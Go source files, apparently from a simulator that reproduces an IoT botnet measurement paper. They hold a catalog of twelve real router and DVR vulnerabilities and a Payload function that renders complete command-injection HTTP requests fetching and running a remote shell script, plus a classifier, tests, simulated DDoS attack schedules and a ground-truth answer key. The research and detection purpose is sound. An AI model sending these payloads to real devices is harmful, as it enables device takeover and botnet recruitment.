			ID: 4, Key: "vacron-nvr", CVEs: nil,
			ExploitID: "OPENVAS:1361412562310107187", Source: "OPENVAS", Published: d(2017, 10, 11),
			Device: "Vacron NVR", Port: 80,
			Signature: "/board.cgi?cmd=", Patch: PatchUnknown,
			PaperSamples: 46,
		},
		{
			ID: 5, Key: "huawei-hg532", CVEs: []string{"CVE-2017-17215"},
			ExploitID: "EDB-43414", Source: "EDB", Published: d(2018, 3, 20),
			Device: "Huawei Router HG532", Port: 37215,
			Signature: "/ctrlt/DeviceUpgrade_1", Patch: FirewallOnly,
			PaperSamples: 1,
		},
		{
			ID: 6, Key: "mvpower-dvr", CVEs: nil,
			ExploitID: "EDB-ID-41471", Source: "EDB", Published: d(2017, 2, 27),
			Device: "MVPower DVR TV-7104HE", Port: 80,
			Signature: "/shell?", Patch: ReplaceDevice,
			PaperSamples: 74,
		},
		{
			ID: 7, Key: "dlink-dir820l", CVEs: []string{"CVE-2021-45382"},
			ExploitID: "", Source: "NVD", Published: d(2021, 12, 19),
			Device: "D-Link DIR-820L command injection", Port: 80,
			Signature: "ping.ccp", Patch: ReplaceDevice,
			PaperSamples: 3,
		},
		{
			ID: 8, Key: "linksys-themoon", CVEs: nil,
			ExploitID: "EDB-ID-31683", Source: "EDB", Published: d(2014, 2, 16),
			Device: "Linksys E-series devices", Port: 8080,
			Signature: "/tmUnblock.cgi", Patch: FirewallOnly,
			PaperSamples: 2,
		},
		{
			ID: 9, Key: "eir-d1000", CVEs: nil,
			ExploitID: "EDB-ID-40740", Source: "EDB", Published: d(2016, 11, 8),
			Device: "Eir D1000 Wireless Router", Port: 7547,
			Signature: "NewNTPServer1", Patch: FirewallOnly,
			PaperSamples: 9,
		},
		{
			ID: 10, Key: "thinkphp-rce", CVEs: []string{"CVE-2018-20062"},
			ExploitID: "EDB-45978", Source: "EDB", Published: d(2018, 12, 11),
			Device: "Devices that use ThinkPHP", Port: 80,
			Signature: "invokefunction", Patch: PatchAvailable,
			PaperSamples: 2,
		},
		{
			ID: 11, Key: "nuuo-nvrmini", CVEs: []string{"CVE-2016-5680"},
			ExploitID: "EDB-ID-40200", Source: "EDB", Published: d(2016, 8, 31),
			Device: "NUUO NVRmini2 / NVRsolo / NETGEAR ReadyNAS", Port: 80,
			Signature: "__debugging_center_utils___", Patch: FirewallOnly,
			PaperSamples: 1,
		},
		{
			ID: 12, Key: "netlink-gpon", CVEs: nil,
			ExploitID: "EDB-48225", Source: "EDB", Published: d(2020, 3, 18),
			Device: "Netlink GPON Routers", Port: 8080,
			Signature: "/boaform/admin/formPing", Patch: PatchUnknown,
			PaperSamples: 2,
		},
	}
}

// ByKey indexes the catalog.
func ByKey() map[string]*Vulnerability {
	m := make(map[string]*Vulnerability)
	for _, v := range Catalog() {
		m[v.Key] = v
	}
	return m
}

// Payload renders the wire bytes the exploit sends to a victim,
// parameterized by the downloader address ("host:port") and loader
// filename — the two fields §4 observes varying across otherwise
// template-identical exploits.
func (v *Vulnerability) Payload(downloader, loader string) []byte {
	cmd := fmt.Sprintf("cd /tmp; wget http://%s/%s; chmod 777 %s; sh %s", downloader, loader, loader, loader)
	switch v.Key {
	case "gpon-rce":
		body := fmt.Sprintf("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`%s`&ipv=0", cmd)
		return httpPOST("/GponForm/diag_Form?images/", "", body)
	case "dlink-hnap":
		soap := fmt.Sprintf("`%s`", cmd)
		return httpPOSTWith("/HNAP1/", map[string]string{
			"SOAPAction": fmt.Sprintf("\"http://purenetworks.com/HNAP1/GetDeviceSettings/%s\"", soap),
		}, "")
	case "zyxel-viewlog":
		return httpGET(fmt.Sprintf("/cgi-bin/ViewLog.asp?remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%%3b%s%%3b%%23", urlish(cmd)))
	case "vacron-nvr":
		return httpGET(fmt.Sprintf("/board.cgi?cmd=%s", urlish(cmd)))
	case "huawei-hg532":
		body := fmt.Sprintf("<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(%s)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>", cmd)
		return httpPOST("/ctrlt/DeviceUpgrade_1", "text/xml", body)
	case "mvpower-dvr":
		return httpGET(fmt.Sprintf("/shell?%s", urlish(cmd)))
	case "dlink-dir820l":
		body := fmt.Sprintf("ccp_act=ping_v6&ping_addr=$(%s)", cmd)
		return httpPOST("/ping.ccp", "", body)
	case "linksys-themoon":
		body := fmt.Sprintf("submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`%s`&StartEPI=1", cmd)
		return httpPOST("/tmUnblock.cgi", "", body)
	case "eir-d1000":
		body := fmt.Sprintf("<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`%s`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>", cmd)
		return httpPOST("/UD/act?1", "text/xml", body)
	case "thinkphp-rce":
		return httpGET(fmt.Sprintf("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=%s", urlish(cmd)))
	case "nuuo-nvrmini":
		return httpGET(fmt.Sprintf("/__debugging_center_utils___.php?log=;%s", urlish(cmd)))
	case "netlink-gpon":
		body := fmt.Sprintf("target_addr=;%s&waninf=1_INTERNET_R_VID_", cmd)
		return httpPOST("/boaform/admin/formPing", "", body)
	}
	return nil
}

func urlish(s string) string {
	// Percent-encode the separators the way public exploit PoCs do
	// (enough for signature realism; not a general URL encoder).
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case ' ':
			out = append(out, "%20"...)
		case ';':
			out = append(out, "%3B"...)
		default:
			out = append(out, s[i])
		}
	}
	return string(out)
}

func httpGET(path string) []byte {
	return []byte(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: victim\r\nUser-Agent: Hello, world\r\nConnection: close\r\n\r\n", path))
}

func httpPOST(path, contentType, body string) []byte {
	hdrs := map[string]string{}
	if contentType != "" {
		hdrs["Content-Type"] = contentType
	}
	return httpPOSTWith(path, hdrs, body)
}

func httpPOSTWith(path string, hdrs map[string]string, body string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "POST %s HTTP/1.1\r\nHost: victim\r\n", path)
	for _, k := range []string{"SOAPAction", "Content-Type"} {
		if v, ok := hdrs[k]; ok {
			fmt.Fprintf(&b, "%s: %s\r\n", k, v)
		}
	}
	fmt.Fprintf(&b, "Content-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
	return b.Bytes()
}

// Classify identifies which catalog vulnerabilities a captured
// payload exploits, in catalog order. One payload can match several
// rows with a shared signature (the GPON CVE pair travels in one
// request).
func Classify(payload []byte) []*Vulnerability {
	var out []*Vulnerability
	for _, v := range Catalog() {
		if bytes.Contains(payload, []byte(v.Signature)) {
			out = append(out, v)
		}
	}
	return out
}

// LoaderNames returns Figure 9's loader filenames with their paper
// frequencies, most common first.
func LoaderNames() []struct {
	Name  string
	Count int
} {
	return []struct {
		Name  string
		Count int
	}{
		{"t8UsA2.sh", 14},
		{"Tsunamix6", 12},
		{"ddns.sh", 8},
		{"8UsA.sh", 6},
		{"wget.sh", 5},
		{"zyxel.sh", 4},
		{"jaws.sh", 2},
	}
}
