package vuln

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

var ref = time.Date(2022, 3, 1, 0, 0, 0, 0, time.UTC) // end of study

func TestCatalogHasTwelveRows(t *testing.T) {
	if got := len(Catalog()); got != 12 {
		t.Fatalf("catalog rows = %d, want 12", got)
	}
}

func TestCatalogAgeDistributionMatchesPaper(t *testing.T) {
	// Paper: 12 vulnerabilities, "9 of them more than 4 years old",
	// most recent 5 months old (CVE-2021-45382, Dec 2021 vs study
	// end Mar 2022). Against Table 4's own exploit publication
	// dates the 4-year claim holds for 6 rows and the 3-year one
	// for 9 (the paper likely aged by vulnerability disclosure);
	// we pin the dates and check both shapes.
	old3, old4 := 0, 0
	var newest *Vulnerability
	for _, v := range Catalog() {
		if v.AgeAt(ref) > 4*365*24*time.Hour {
			old4++
		}
		if v.AgeAt(ref) > 3*365*24*time.Hour {
			old3++
		}
		if newest == nil || v.Published.After(newest.Published) {
			newest = v
		}
	}
	if old4 != 6 || old3 != 9 {
		t.Fatalf("older than 4y = %d (want 6), older than 3y = %d (want 9)", old4, old3)
	}
	if newest.Key != "dlink-dir820l" {
		t.Fatalf("newest = %s", newest.Key)
	}
	if age := newest.AgeAt(ref); age > 6*30*24*time.Hour {
		t.Fatalf("newest is %v old, want ~5 months", age)
	}
}

func TestFiveRowsLackCVEs(t *testing.T) {
	noCVE := 0
	for _, v := range Catalog() {
		if len(v.CVEs) == 0 {
			noCVE++
		}
	}
	if noCVE != 5 {
		t.Fatalf("rows without CVE = %d, want 5", noCVE)
	}
}

func TestTwoCVEsLackPublicExploits(t *testing.T) {
	// CVE-2017-18368 and CVE-2021-45382 have CVEs but no exploit ID.
	n := 0
	for _, v := range Catalog() {
		if len(v.CVEs) > 0 && v.ExploitID == "" {
			n++
		}
	}
	if n != 2 {
		t.Fatalf("CVEs without public exploit = %d, want 2", n)
	}
}

func TestTopFourByPaperSamples(t *testing.T) {
	// §4: the top four are CVE-2015-2051, CVE-2018-10561/2 and
	// MVPower DVR, all at least 4 years old.
	wantTop := map[string]bool{"gpon-rce": true, "dlink-hnap": true, "mvpower-dvr": true}
	var counts []struct {
		key string
		n   int
	}
	for _, v := range Catalog() {
		counts = append(counts, struct {
			key string
			n   int
		}{v.Key, v.PaperSamples})
	}
	for i := 0; i < 3; i++ {
		max := i
		for j := i + 1; j < len(counts); j++ {
			if counts[j].n > counts[max].n {
				max = j
			}
		}
		counts[i], counts[max] = counts[max], counts[i]
		if !wantTop[counts[i].key] {
			t.Fatalf("rank %d = %s (%d samples), not in paper top set", i, counts[i].key, counts[i].n)
		}
	}
}

func TestEveryPayloadCarriesDownloaderAndLoader(t *testing.T) {
	for _, v := range Catalog() {
		p := v.Payload("60.0.0.5:80", "t8UsA2.sh")
		if p == nil {
			t.Fatalf("%s: nil payload", v.Key)
		}
		if !bytes.Contains(p, []byte("60.0.0.5")) {
			t.Errorf("%s: payload missing downloader address", v.Key)
		}
		if !bytes.Contains(p, []byte("t8UsA2.sh")) {
			t.Errorf("%s: payload missing loader name", v.Key)
		}
	}
}

func TestClassifyRoundTripsEveryPayload(t *testing.T) {
	for _, v := range Catalog() {
		p := v.Payload("60.0.0.5:80", "x.sh")
		got := Classify(p)
		found := false
		for _, g := range got {
			if g.Key == v.Key {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: Classify did not recover the vulnerability (got %d matches)", v.Key, len(got))
		}
	}
}

func TestClassifyUniqueAcrossCatalog(t *testing.T) {
	// Each payload must classify as exactly one catalog row (one
	// signature; the GPON row covers both of its CVEs).
	for _, v := range Catalog() {
		p := v.Payload("60.0.0.5:80", "x.sh")
		if got := Classify(p); len(got) != 1 {
			keys := make([]string, 0, len(got))
			for _, g := range got {
				keys = append(keys, g.Key)
			}
			t.Errorf("%s: classified as %v", v.Key, keys)
		}
	}
}

func TestClassifyBenignTrafficEmpty(t *testing.T) {
	benign := []byte("GET / HTTP/1.1\r\nHost: example.com\r\n\r\n")
	if got := Classify(benign); len(got) != 0 {
		t.Fatalf("benign request classified: %v", got[0].Key)
	}
}

func TestPayloadsAreValidHTTPish(t *testing.T) {
	for _, v := range Catalog() {
		p := string(v.Payload("60.0.0.5:80", "x.sh"))
		if !strings.HasPrefix(p, "GET ") && !strings.HasPrefix(p, "POST ") {
			t.Errorf("%s: payload does not start with a method", v.Key)
		}
		if !strings.Contains(p, "\r\n\r\n") {
			t.Errorf("%s: payload missing header terminator", v.Key)
		}
	}
}

func TestGPONCoversTwoCVEs(t *testing.T) {
	byKey := ByKey()
	g := byKey["gpon-rce"]
	if g == nil || len(g.CVEs) != 2 {
		t.Fatalf("gpon-rce CVEs = %v", g.CVEs)
	}
}

func TestPatchStatusShares(t *testing.T) {
	// §4: of the 10 CVE-bearing vulnerabilities (8 rows), patches
	// exist for 3, 5 are firewall-only, 2 replace-only across the
	// full catalog.
	var patch, fw, replace int
	for _, v := range Catalog() {
		switch v.Patch {
		case PatchAvailable:
			patch++
		case FirewallOnly:
			fw++
		case ReplaceDevice:
			replace++
		}
	}
	if patch != 3 || fw != 5 || replace != 2 {
		t.Fatalf("patch=%d firewall=%d replace=%d, want 3/5/2", patch, fw, replace)
	}
}

func TestLoaderNamesMatchFigure9(t *testing.T) {
	names := LoaderNames()
	if len(names) != 7 {
		t.Fatalf("loader names = %d, want 7", len(names))
	}
	if names[0].Name != "t8UsA2.sh" {
		t.Fatalf("most common loader = %s", names[0].Name)
	}
	for i := 1; i < len(names); i++ {
		if names[i].Count > names[i-1].Count {
			t.Fatal("loader names not sorted by frequency")
		}
	}
}

func TestLabelPrefersCVE(t *testing.T) {
	byKey := ByKey()
	if got := byKey["dlink-hnap"].Label(); got != "CVE-2015-2051" {
		t.Fatalf("label = %q", got)
	}
	if got := byKey["mvpower-dvr"].Label(); got != "mvpower-dvr" {
		t.Fatalf("label = %q", got)
	}
}
