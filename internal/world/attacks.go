package world

import (
	"fmt"

	"malnet/internal/binfmt"
	"net/netip"
	"time"

	"malnet/internal/c2"
	"malnet/internal/geo"
)

// attackC2Slot fixes one attack-launching server's hosting, per
// §5's geography: the issuing servers sit in 6 countries with the
// USA, the Netherlands and the Czech Republic responsible for ~80 %
// of attacks.
type attackC2Slot struct {
	asn    int
	family string
}

// czASN is the Czech hosting AS registered by the world (Table 2's
// list has no CZ member, but §5's attack issuers include CZ).
const czASN = 197019

func attackC2Slots() []attackC2Slot {
	return []attackC2Slot{
		// 7 US
		{36352, "mirai"}, {36352, "daddyl33t"}, {36352, "gafgyt"}, {36352, "mirai"},
		{14061, "daddyl33t"}, {14061, "gafgyt"}, {211252, "mirai"},
		// 4 NL
		{399471, "daddyl33t"}, {399471, "mirai"}, {399471, "gafgyt"}, {50673, "daddyl33t"},
		// 3 CZ
		{czASN, "mirai"}, {czASN, "daddyl33t"}, {czASN, "gafgyt"},
		// 1 RU, 1 FR, 1 LU
		{44812, "mirai"}, {16276, "daddyl33t"}, {53667, "gafgyt"},
	}
}

// attackTypeSchedule enumerates the 42 ground-truth commands by
// family, matching Figure 11's type mix and Figure 10's protocol
// split (UDP 74 %, TCP 14 %, DNS 7 %, ICMP 5 %).
type plannedAttack struct {
	family string
	attack c2.AttackType
	port   uint16 // 0 = draw a high port; 53 makes it a DNS attack
	tcpTLS bool   // the Mirai TLS variant runs over TCP
}

func plannedAttacks() []plannedAttack {
	var out []plannedAttack
	add := func(n int, family string, attack c2.AttackType, port uint16) {
		for i := 0; i < n; i++ {
			out = append(out, plannedAttack{family: family, attack: attack, port: port})
		}
	}
	// Mirai: 16 attacks.
	add(6, "mirai", c2.AttackUDPFlood, 0)
	add(3, "mirai", c2.AttackUDPFlood, 80)
	add(2, "mirai", c2.AttackUDPFlood, 53) // DNS bucket
	add(1, "mirai", c2.AttackUDPFlood, 443)
	add(2, "mirai", c2.AttackSYNFlood, 80)
	add(1, "mirai", c2.AttackSTOMP, 61613)
	out = append(out, plannedAttack{family: "mirai", attack: c2.AttackTLS, port: 443, tcpTLS: true})
	// Gafgyt: 10 attacks.
	add(4, "gafgyt", c2.AttackUDPFlood, 0)
	add(3, "gafgyt", c2.AttackUDPFlood, 80)
	add(1, "gafgyt", c2.AttackUDPFlood, 53) // DNS bucket
	add(1, "gafgyt", c2.AttackVSE, 27015)
	add(1, "gafgyt", c2.AttackSTD, 0)
	// Daddyl33t: 16 attacks.
	add(5, "daddyl33t", c2.AttackUDPFlood, 0)
	add(2, "daddyl33t", c2.AttackUDPFlood, 80)
	add(1, "daddyl33t", c2.AttackUDPFlood, 443)
	add(2, "daddyl33t", c2.AttackSYNFlood, 80)
	add(3, "daddyl33t", c2.AttackTLS, 0) // UDP/DTLS variant
	add(2, "daddyl33t", c2.AttackBlacknurse, 0)
	add(1, "daddyl33t", c2.AttackNFO, 238)
	return out
}

// mintAttackC2 creates an attack-launching C2 anchored to a real
// sample date, alive ~10 days (the §5 lifespan finding).
func (ps *populationState) mintAttackC2(slot attackC2Slot, anchor time.Time) *C2Spec {
	rng := ps.rng
	ip := ps.allocIP(slot.asn)
	ports := familyC2Ports(slot.family)
	port := ports[rng.Intn(len(ports))]
	cs := &C2Spec{
		Address: fmt.Sprintf("%s:%d", ip, port),
		IP:      ip, Port: port, ASN: slot.asn,
		Family: slot.family, Variant: "v1",
		Sticky: true, AttackLauncher: true,
		Birth: anchor.Add(-12 * time.Hour),
		Death: anchor.Add(time.Duration(9+rng.Intn(4)) * 24 * time.Hour),
	}
	if rng.Intn(2) == 1 {
		cs.Variant = "v2"
	}
	ps.c2s[cs.Address] = cs
	ps.order = append(ps.order, cs)
	return cs
}

// planAttacks mints the attack C2s, binds them to feed samples, and
// lays out the 42-command schedule. It returns the plans and the
// set of target addresses used (for Figure 12's geography).
func (ps *populationState) planAttacks(reg *geo.Registry) []AttackPlan {
	rng := ps.rng
	slots := attackC2Slots()
	if ps.cfg.AttackC2s < len(slots) {
		slots = slots[:ps.cfg.AttackC2s]
	}

	// Samples by family for binding, in date order.
	byFamily := map[string][]*SampleSpec{}
	for _, s := range ps.samples {
		if !s.P2P && s.ForeignArch == binfmt.ArchMIPS32BE {
			byFamily[s.Family] = append(byFamily[s.Family], s)
		}
	}

	// Mint servers anchored at sample-rich dates and bind 1–2
	// samples each: one near the anchor, one ~9–11 days later when
	// available (driving the ~10-day observed lifespan).
	var servers []*C2Spec
	var cmdSamples []*SampleSpec // per server: the command-day sample
	usedSample := map[int]bool{} // samples already bound to an attack C2
	for i, slot := range slots {
		pool := byFamily[slot.family]
		if len(pool) == 0 {
			continue
		}
		// Spread anchors across the study, skipping samples already
		// claimed by another attack C2: a bot holds one C2 session,
		// so sharing a sample would starve the second server.
		start := (i * len(pool) / len(slots)) % len(pool)
		anchorSample := pool[start]
		for off := 0; off < len(pool); off++ {
			cand := pool[(start+off)%len(pool)]
			if !usedSample[cand.Index] {
				anchorSample = cand
				break
			}
		}
		usedSample[anchorSample.Index] = true
		cs := ps.mintAttackC2(slot, anchorSample.Date)
		bindAttack := func(s *SampleSpec) {
			s.C2Refs = append([]string{cs.Address}, s.C2Refs...)
			if len(s.C2Refs) > ps.cfg.RefsPerSampleMax {
				s.C2Refs = s.C2Refs[:ps.cfg.RefsPerSampleMax]
			}
			bind(cs, s.Index, s.Date)
		}
		bindAttack(anchorSample)
		// Second binding near death-2d for the lifespan spread.
		wantDay := anchorSample.Date.Add(cs.Death.Sub(anchorSample.Date) - 36*time.Hour)
		var second *SampleSpec
		for _, s := range pool {
			if s == anchorSample || usedSample[s.Index] || s.Date.Before(anchorSample.Date) {
				continue
			}
			if s.Date.After(cs.Death.Add(-24 * time.Hour)) {
				break
			}
			second = s
			if !s.Date.Before(wantDay) {
				break
			}
		}
		if second != nil {
			usedSample[second.Index] = true
			bindAttack(second)
		}
		servers = append(servers, cs)
		cmdSamples = append(cmdSamples, anchorSample)
		// A few servers issue on their second sample's day too,
		// pushing distinct receivers toward the paper's 20.
		if second != nil && i%5 == 0 {
			cmdSamples = append(cmdSamples, second)
			servers = append(servers, cs)
		}
	}

	// Build the target list: 34 distinct victims over the 23
	// victim ASes; Nuclearfallout hosts the NFO target, a gaming
	// AS hosts the VSE one.
	victims := geo.VictimASes()
	targetOf := func(i int) netip.Addr {
		as := reg.ByASN(victims[i%len(victims)].ASN)
		return as.AddrAt(100 + i) // clear of C2 allocations
	}

	plans := make([]AttackPlan, 0, 42)
	attacks := plannedAttacks()
	// Group attacks by family, deal them to that family's servers
	// round-robin.
	srvOf := map[string][]int{}
	for idx, cs := range servers {
		srvOf[cs.Family] = append(srvOf[cs.Family], idx)
	}
	dealt := map[string]int{}
	targetIdx := 0
	for _, pa := range attacks {
		idxs := srvOf[pa.family]
		if len(idxs) == 0 {
			continue
		}
		si := idxs[dealt[pa.family]%len(idxs)]
		dealt[pa.family]++
		cs := servers[si]
		day := cmdSamples[si].Date

		port := pa.port
		if port == 0 && pa.attack != c2.AttackBlacknurse {
			port = uint16(1024 + rng.Intn(60000))
		}
		plans = append(plans, AttackPlan{
			C2Address: cs.Address,
			// Early first attempt plus a dense 15-minute retry
			// schedule spanning ~32 h, so whichever 2-hour window
			// the pipeline opens that day overlaps an attempt.
			When:    day.Add(time.Duration(5+rng.Intn(55)) * time.Minute),
			Retries: 130,
			Command: c2.Command{
				Attack:       pa.attack,
				Target:       targetOf(targetIdx),
				Port:         port,
				Duration:     time.Duration(30+rng.Intn(90)) * time.Second,
				TCPTransport: pa.tcpTLS,
			},
		})
		targetIdx++
	}

	// Fold plans into two-attacks-one-target sessions until ~25 %
	// of targets are double-attacked (§5.2): with 42 attacks, 8
	// pairs leave 34 distinct targets, 8 of them hit twice.
	usedPlan := map[int]bool{}
	byC2 := map[string][]int{}
	for i := range plans {
		byC2[plans[i].C2Address] = append(byC2[plans[i].C2Address], i)
	}
	var c2Order []string
	seenC2 := map[string]bool{}
	for _, p := range plans {
		if !seenC2[p.C2Address] && len(byC2[p.C2Address]) >= 2 {
			seenC2[p.C2Address] = true
			c2Order = append(c2Order, p.C2Address)
		}
	}
	pairsWanted := len(plans) / 5
	made := 0
	for _, addr := range c2Order {
		if made >= pairsWanted {
			break
		}
		idxs := byC2[addr]
		first := -1
		for _, i := range idxs {
			if usedPlan[i] {
				continue
			}
			if first < 0 {
				first = i
				continue
			}
			if plans[i].Command.Attack == plans[first].Command.Attack {
				continue
			}
			// Fold: same target, ten minutes apart, one session.
			usedPlan[first], usedPlan[i] = true, true
			plans[i].Command.Target = plans[first].Command.Target
			plans[i].When = plans[first].When.Add(10 * time.Minute)
			made++
			break
		}
	}
	return plans
}
