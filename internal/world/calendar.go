// Package world generates the simulated Internet and malware feed
// the pipeline measures: the study calendar (Appendix E), the 1447
// sample binaries and their families, the C2 server population with
// its spatial (Table 2 / Figure 1) and temporal (Figures 2–4)
// structure, the exploit kits (Table 4), the DDoS attack schedule
// (§5), the DNS zone, and the threat-intelligence registrations.
//
// Every distribution is a generative model calibrated to the paper's
// published numbers; the pipeline then re-measures them through the
// same instruments the authors used. EXPERIMENTS.md records
// paper-vs-measured for each.
package world

import (
	"time"
)

// StudyWeek maps one of the 31 study weeks (Figure 1's x-axis) to a
// calendar week.
type StudyWeek struct {
	// Num is the 1-based study week number.
	Num int
	// Start is the Monday the week begins.
	Start time.Time
}

// isoWeekStart returns the Monday of ISO week (year, week).
func isoWeekStart(year, week int) time.Time {
	// Jan 4 is always in ISO week 1.
	jan4 := time.Date(year, 1, 4, 0, 0, 0, 0, time.UTC)
	weekday := int(jan4.Weekday())
	if weekday == 0 {
		weekday = 7
	}
	week1Monday := jan4.AddDate(0, 0, 1-weekday)
	return week1Monday.AddDate(0, 0, (week-1)*7)
}

// Calendar returns the 31 study weeks per Appendix E: study week 1
// is 2021 ISO week 14; weeks 2–11 map to 2021 weeks 24–33; weeks
// 12–20 map to 2021 weeks 44–52; weeks 21–31 map to 2022 weeks 2–12.
// The gaps are the paper's service disruptions / empty weeks.
func Calendar() []StudyWeek {
	var out []StudyWeek
	add := func(year, isoWeek int) {
		out = append(out, StudyWeek{Num: len(out) + 1, Start: isoWeekStart(year, isoWeek)})
	}
	add(2021, 14)
	for w := 24; w <= 33; w++ {
		add(2021, w)
	}
	for w := 44; w <= 52; w++ {
		add(2021, w)
	}
	for w := 2; w <= 12; w++ {
		add(2022, w)
	}
	return out
}

// StudyStart is the first day samples can appear.
func StudyStart() time.Time { return Calendar()[0].Start }

// StudyEnd is the day after the last study week.
func StudyEnd() time.Time {
	cal := Calendar()
	return cal[len(cal)-1].Start.AddDate(0, 0, 7)
}

// May7 is the second threat-intelligence query date (§2.3a).
var May7 = time.Date(2022, 5, 7, 0, 0, 0, 0, time.UTC)

// WeekOf maps a date to its study week number, or 0 when the date
// falls in a calendar gap.
func WeekOf(t time.Time) int {
	for _, w := range Calendar() {
		if !t.Before(w.Start) && t.Before(w.Start.AddDate(0, 0, 7)) {
			return w.Num
		}
	}
	return 0
}

// weekWeight shapes the per-week sample volume: modest through 2021,
// rising from January 2022 (weeks 21+), peaking at week 28 — the
// shape Figure 1 shows.
func weekWeight(num int) float64 {
	switch {
	case num == 28:
		return 3.4 // the paper's observed peak
	case num >= 27 && num <= 29:
		return 2.6
	case num >= 21:
		return 2.0
	case num == 1:
		return 0.7
	default:
		return 1.0
	}
}
