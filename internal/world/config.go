package world

import (
	"time"

	"malnet/internal/c2"
)

// Config holds the calibration knobs. Defaults reproduce the paper's
// population; ablation benches vary them.
type Config struct {
	// Seed drives all world randomness.
	Seed int64
	// TotalSamples is the feed size (paper: 1447).
	TotalSamples int
	// RefsPerSampleMin/Max bound C2 addresses per non-P2P binary.
	RefsPerSampleMin, RefsPerSampleMax int
	// DNSShare is the fraction of C2 addresses that are domains.
	DNSShare float64
	// StickyShare is the fraction of newly minted C2s that become
	// long-lived, widely shared servers.
	StickyShare float64
	// StickyAliveP / FreshAliveP control day-0 liveness (calibrated
	// so ~40 % of samples find a live C2, §3.2).
	StickyAliveP, FreshAliveP float64
	// ExploitShare is the fraction of eligible samples that carry
	// working exploit kits (paper: 197 of 1447).
	ExploitShare float64
	// AttackC2s is the number of attack-launching servers (17).
	AttackC2s int
	// TotalASes is the Appendix A AS population (128).
	TotalASes int
	// SandboxWindow is the per-sample isolated-analysis window the
	// study driver uses.
	SandboxWindow time.Duration
	// LiveWindow is the restricted live window for live-C2 samples.
	LiveWindow time.Duration
	// Scenario enables the optional spec-driven scenario packs
	// (P2P relay mesh, DGA endpoint churn); zero disables them.
	Scenario ScenarioConfig
}

// DefaultConfig returns the paper-calibrated world.
func DefaultConfig(seed int64) Config {
	return Config{
		Seed:             seed,
		TotalSamples:     1447,
		RefsPerSampleMin: 2,
		RefsPerSampleMax: 6,
		DNSShare:         0.055,
		StickyShare:      0.20,
		StickyAliveP:     0.28,
		FreshAliveP:      0.09,
		ExploitShare:     0.145,
		AttackC2s:        17,
		TotalASes:        128,
		SandboxWindow:    15 * time.Minute,
		LiveWindow:       2 * time.Hour,
	}
}

// familyShare is the feed's family mix. Mirai and Gafgyt dominate
// real IoT feeds; Mozi is the big P2P family (Table 6 notes its 10x
// growth in 2021).
var familyShare = []struct {
	name  string
	share float64
	p2p   bool
}{
	{"mirai", 0.36, false},
	{"gafgyt", 0.28, false},
	{"mozi", 0.13, true},
	{"tsunami", 0.08, false},
	{"daddyl33t", 0.07, false},
	{"hajime", 0.04, true},
	{"vpnfilter", 0.04, false},
}

// familyC2Ports returns the listen ports the family's servers use,
// from its protocol spec.
func familyC2Ports(family string) []uint16 {
	p, ok := c2.Lookup(family)
	if !ok {
		return nil
	}
	return p.Spec().Ports
}
