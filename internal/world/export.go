package world

import (
	"encoding/json"
	"io"
	"sort"
	"time"
)

// Ground-truth export, in the spirit of the paper's dataset-sharing
// commitment ("Our group is committed ... to sharing tools and our
// data openly"). The export carries generator truth — what the
// pipeline is supposed to rediscover — so it doubles as the answer
// key for validating third-party analyses of the emitted datasets.

// GroundTruthSample is the exported per-binary truth.
type GroundTruthSample struct {
	Index      int       `json:"index"`
	SHA256     string    `json:"sha256"`
	Date       time.Time `json:"date"`
	Family     string    `json:"family"`
	Variant    string    `json:"variant"`
	P2P        bool      `json:"p2p,omitempty"`
	C2Refs     []string  `json:"c2_refs,omitempty"`
	ExploitIDs []string  `json:"exploits,omitempty"`
	Loader     string    `json:"loader,omitempty"`
	Downloader string    `json:"downloader,omitempty"`
	Evasion    string    `json:"evasion,omitempty"`
}

// GroundTruthC2 is the exported per-server truth.
type GroundTruthC2 struct {
	Address        string    `json:"address"`
	IP             string    `json:"ip"`
	Port           uint16    `json:"port"`
	Domain         string    `json:"domain,omitempty"`
	ASN            int       `json:"asn"`
	Family         string    `json:"family"`
	Birth          time.Time `json:"birth"`
	Death          time.Time `json:"death"`
	Samples        int       `json:"samples"`
	AttackLauncher bool      `json:"attack_launcher,omitempty"`
	Elusive        bool      `json:"elusive,omitempty"`
	Downloader     bool      `json:"downloader,omitempty"`
}

// GroundTruthAttack is the exported per-command truth.
type GroundTruthAttack struct {
	C2     string    `json:"c2"`
	When   time.Time `json:"when"`
	Attack string    `json:"attack"`
	Target string    `json:"target"`
	Port   uint16    `json:"port"`
}

// GroundTruth is the full answer key.
type GroundTruth struct {
	Seed    int64               `json:"seed"`
	Samples []GroundTruthSample `json:"samples"`
	C2s     []GroundTruthC2     `json:"c2s"`
	Attacks []GroundTruthAttack `json:"attacks"`
}

// ExportGroundTruth assembles the answer key. Sample hashes are
// computed on demand (encoding any binaries not yet materialized).
func (w *World) ExportGroundTruth() (*GroundTruth, error) {
	gt := &GroundTruth{Seed: w.Cfg.Seed}
	for _, s := range w.Samples {
		sha, err := s.SHA256()
		if err != nil {
			return nil, err
		}
		gt.Samples = append(gt.Samples, GroundTruthSample{
			Index: s.Index, SHA256: sha, Date: s.Date,
			Family: s.Family, Variant: s.Variant, P2P: s.P2P,
			C2Refs: s.C2Refs, ExploitIDs: s.ExploitIDs,
			Loader: s.LoaderName, Downloader: s.DownloaderAddr,
			Evasion: s.Evasion,
		})
	}
	var addrs []string
	for a := range w.C2s {
		addrs = append(addrs, a)
	}
	sort.Strings(addrs)
	for _, a := range addrs {
		cs := w.C2s[a]
		if len(cs.SampleIdx) == 0 && !cs.Elusive {
			continue
